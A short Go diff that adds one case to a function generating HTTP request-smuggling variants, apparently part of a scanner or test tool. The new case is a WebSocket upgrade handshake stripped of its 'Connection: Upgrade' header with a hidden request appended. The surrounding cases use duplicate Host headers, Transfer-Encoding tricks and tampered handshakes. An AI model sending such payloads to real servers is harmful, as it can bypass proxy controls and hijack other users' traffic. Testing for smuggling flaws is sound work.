@@ -61,6 +61,7 @@ func Smuggling(t *Target) []Smuggled {
 		{"two hosts", strings.Replace(with(cl(length), first.body), "\r\n", "\r\nHost: b\r\n", 1)},
 		{"a space before the first header", strings.Replace(with(cl(all)+"\r\n"+te, chunked(size)), "\r\nHost:", "\r\n Transfer-Encoding: identity\r\nHost:", 1)},
 		{"a handshake that fails", strings.Replace(t.upgrade(t.Key, ""), "Version: 13", "Version: 7", 1) + hidden},
+		{"a handshake that says so only once", strings.Replace(t.upgrade(t.Key, ""), "Connection: Upgrade\r\n", "", 1) + hidden},
 		{"a handshake with a body", t.upgrade(t.Key, cl(len(hidden))+"\r\n") + hidden},
 	}
 }
